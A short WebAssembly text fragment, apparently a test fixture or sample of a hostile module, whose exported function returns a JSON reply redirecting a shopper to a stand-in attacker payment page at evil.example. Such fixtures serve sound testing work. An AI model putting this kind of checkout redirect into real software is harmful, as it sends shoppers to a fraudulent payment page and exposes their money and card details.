;; Shows the shopper a page that is not its processor's.
(data (i32.const 32768) "{\"answer\":{\"said\":{\"facts\":{\"word\":\"open\"},\"door\":{\"kind\":\"redirect\",\"url\":\"https://evil.example/pay\"}}}}\00")
(func (export "run") (param i32 i32) (result i32) (call $text (i32.const 32768)))
